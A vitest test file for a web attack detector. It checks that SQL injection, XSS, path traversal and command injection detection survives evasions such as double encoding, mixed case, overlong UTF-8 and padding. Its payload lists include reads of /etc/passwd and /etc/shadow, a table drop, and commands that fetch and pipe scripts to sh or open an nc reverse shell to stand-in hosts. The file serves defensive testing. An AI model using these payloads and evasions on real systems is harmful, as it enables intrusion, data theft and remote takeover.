import { describe, expect, it } from 'vitest';
import { DETECTORS } from '../../../processors/detection/detectors/index.js';
import { EventView } from '../../../processors/detection/view.js';
import { DEFAULT_EXTRACT_OPTIONS, eventFromFields } from '../../../processors/detection/event.js';
import { rowsLabeled, requestEvent, type LabeledRequest } from '../../helpers/attack-corpus.js';

/*
 * The same payloads, encoded the ways attackers use to slip past matching: percent-encoded twice,
 * in mixed case, with SQL comments inside keywords, and with overlong UTF-8 for the characters
 * that carry the attack. Each must still be detected.
 */

function detected(detector: string, query: string, path = '/search'): boolean {
  const event = eventFromFields({ 'http.request.method': 'GET', 'url.path': path, 'url.query': query, 'client.address': '192.0.2.10' }, Date.UTC(2024, 0, 1));
  return DETECTORS.get(detector)?.detect(new EventView(event)) !== undefined;
}

/** Percent-encodes every character that is not a letter or digit. */
function encode(text: string): string {
  let output = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    output += /[A-Za-z0-9]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return output;
}

/** Encodes twice: `<` becomes `%253C`. */
function encodeTwice(text: string): string {
  return encode(text).replaceAll('%', '%25');
}

/** Alternates upper and lower case letter by letter. */
function mixCase(text: string): string {
  let upper = false;
  return [...text].map((char) => {
    if (!/[a-z]/i.test(char)) return char;
    upper = !upper;
    return upper ? char.toUpperCase() : char.toLowerCase();
  }).join('');
}

/** Writes the characters an attack hinges on as two-byte overlong UTF-8 (`.` as %C0%AE, `/` as %C0%AF). */
function overlong(text: string, characters: string): string {
  let output = '';
  for (const char of text) {
    if (!characters.includes(char)) {
      output += /[A-Za-z0-9]/.test(char) ? char : encode(char);
      continue;
    }
    const code = char.charCodeAt(0);
    output += `%${(0xc0 | (code >> 6)).toString(16).toUpperCase()}%${(0x80 | (code & 0x3f)).toString(16).toUpperCase()}`;
  }
  return output;
}

/** Puts an empty SQL comment inside each keyword: `UN/**‌/ION SEL/**‌/ECT`. */
function commentKeywords(text: string): string {
  return text.replace(/\b(union|select|from|where|sleep|and|or)\b/gi, (word) => `${word.slice(0, Math.ceil(word.length / 2))}/**/${word.slice(Math.ceil(word.length / 2))}`);
}

const SQLI = ["1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "admin'--", '1;DROP TABLE users--', "1' AND SLEEP(5)#", '-1 UNION ALL SELECT NULL,NULL,NULL--', "x' OR 1=1 LIMIT 1-- -", '1 AND extractvalue(1,concat(0x7e,version()))'];
const XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<iframe src=javascript:alert(1)>', "' onmouseover='alert(1)"];
const TRAVERSAL = ['../../../../etc/passwd', '../../../windows/win.ini', '....//....//....//etc/shadow', '/etc/passwd', '..\\..\\..\\boot.ini'];
const CMDI = ['127.0.0.1; cat /etc/passwd', 'x | wget http://198.51.100.1/a.sh', '$(whoami)', '`id`', '1 && curl http://198.51.100.1/x | sh', 'x; nc -e /bin/sh 198.51.100.1 4444'];

describe('evasions', () => {
  it.each(SQLI)('sqli %s percent-encoded twice', (payload) => {
    expect(detected('sqli', `id=${encodeTwice(payload)}`)).toBe(true);
  });

  it.each(SQLI)('sqli %s in mixed case', (payload) => {
    expect(detected('sqli', `id=${encode(mixCase(payload))}`)).toBe(true);
  });

  it.each(SQLI)('sqli %s with comments inside keywords', (payload) => {
    expect(detected('sqli', `id=${encode(commentKeywords(payload))}`)).toBe(true);
  });

  it.each(SQLI)('sqli %s with overlong quotes and spaces', (payload) => {
    expect(detected('sqli', `id=${overlong(payload, "' ")}`)).toBe(true);
  });

  it.each(XSS)('xss %s percent-encoded twice', (payload) => {
    expect(detected('xss', `q=${encodeTwice(payload)}`)).toBe(true);
  });

  it.each(XSS)('xss %s in mixed case', (payload) => {
    expect(detected('xss', `q=${encode(mixCase(payload))}`)).toBe(true);
  });

  it.each(XSS)('xss %s with overlong angle brackets', (payload) => {
    expect(detected('xss', `q=${overlong(payload, '<>"\'')}`)).toBe(true);
  });

  it.each(XSS)('xss %s as HTML entities', (payload) => {
    const entities = [...payload].map((char) => (/[<>"'()]/.test(char) ? `&#${char.charCodeAt(0)};` : char)).join('');
    expect(detected('xss', `q=${encode(entities)}`)).toBe(true);
  });

  it.each(TRAVERSAL)('traversal %s percent-encoded twice', (payload) => {
    expect(detected('path_traversal', `file=${encodeTwice(payload)}`)).toBe(true);
  });

  it.each(TRAVERSAL)('traversal %s in mixed case', (payload) => {
    expect(detected('path_traversal', `file=${encode(mixCase(payload))}`)).toBe(true);
  });

  it.each(TRAVERSAL)('traversal %s with overlong dots and slashes', (payload) => {
    expect(detected('path_traversal', `file=${overlong(payload, './\\')}`)).toBe(true);
  });

  it('traversal in the path with overlong dots and slashes', () => {
    expect(detected('path_traversal', '', `/static/${overlong('../../etc/passwd', './')}`)).toBe(true);
  });

  it.each(CMDI)('cmdi %s percent-encoded twice', (payload) => {
    expect(detected('cmdi', `host=${encodeTwice(payload)}`)).toBe(true);
  });

  it.each(CMDI)('cmdi %s in mixed case', (payload) => {
    expect(detected('cmdi', `host=${encode(mixCase(payload))}`)).toBe(true);
  });

  it.each(CMDI)('cmdi %s with overlong separators', (payload) => {
    expect(detected('cmdi', `host=${overlong(payload, ';|&$`/ ')}`)).toBe(true);
  });

  it('fullwidth script tag folds to ASCII', () => {
    expect(detected('xss', `q=${encode('＜script＞alert(1)＜/script＞')}`)).toBe(true);
  });
});

/** Rows the detector finds plainly; evasions of them are checked corpus-wide. */
function detectedRows(detector: string, label: string): LabeledRequest[] {
  return rowsLabeled(label).filter((row) => DETECTORS.get(detector)?.detect(new EventView(requestEvent(row, DEFAULT_EXTRACT_OPTIONS))) !== undefined);
}

describe('evasions of corpus rows', () => {
  it.each([['sqli', 'sqli'], ['xss', 'xss'], ['cmdi', 'rce'], ['path_traversal', 'lfi']])('%s still finds %s rows with the query encoded twice', (detector, label) => {
    const rows = detectedRows(detector, label).filter((row) => row.uri.includes('?'));
    const missed: string[] = [];

    for (const row of rows) {
      const question = row.uri.indexOf('?');
      const query = row.uri.slice(question + 1).split('&').map((part) => {
        const equals = part.indexOf('=');
        if (equals < 0) return part;
        let value = part.slice(equals + 1);
        try {
          value = decodeURIComponent(value.replaceAll('+', ' '));
        } catch {
          // Keep values that are not valid percent-encoding as they are.
        }
        return `${part.slice(0, equals)}=${encodeTwice(value)}`;
      }).join('&');
      const changed = { ...row, uri: `${row.uri.slice(0, question)}?${query}` };
      if (DETECTORS.get(detector)?.detect(new EventView(requestEvent(changed, DEFAULT_EXTRACT_OPTIONS))) === undefined) missed.push(row.source);
    }

    expect(rows.length).toBeGreaterThan(10);
    expect(missed.length / rows.length).toBeLessThanOrEqual(0.03);
  });
});

describe('padding', () => {
  const padding = 'a'.repeat(9000);

  it.each([
    ['sqli', `id=${padding}' or 1=1--`, '/search'],
    ['sqli', `pad=${'b'.repeat(40000)}&id=1' union select password from users--`, '/search'],
    ['path_traversal', '', `/${padding}/../../../etc/passwd`],
  ])('finds %s after the padding', (detector, query, path) => {
    expect(detected(detector, query, path)).toBe(true);
  });

  it('finds sqli behind percent-encoded padding on both sides', () => {
    const encoded = '%2541'.repeat(820);

    expect(detected('sqli', `q=${encoded}'%20or%201=1--%20${encoded}`)).toBe(true);
  });

  it('finds a command behind 64 empty commands', () => {
    expect(detected('cmdi', `host=${'a;'.repeat(64)}wget%20http://203.0.113.5/x.sh|sh`)).toBe(true);
  });

  it.each([';'.repeat(64), 'a=1;'.repeat(64)])('finds sqli in a cookie behind padding pairs', (pairs) => {
    const event = eventFromFields({ 'http.request.method': 'GET', 'url.path': '/', 'http.request.header.cookie': `${pairs}s=' or 1=1-- `, 'client.address': '192.0.2.10' }, Date.UTC(2024, 0, 1));

    expect(DETECTORS.get('sqli')?.detect(new EventView(event))).toBeDefined();
  });

  it('finds a scanner name at the end of a padded user agent', () => {
    const event = eventFromFields({ 'http.request.method': 'GET', 'url.path': '/', 'user_agent.original': `Mozilla/5.0 ${padding} sqlmap/1.7`, 'client.address': '192.0.2.10' }, Date.UTC(2024, 0, 1));

    expect(DETECTORS.get('scanner_user_agent')?.detect(new EventView(event))).toBeDefined();
  });
});
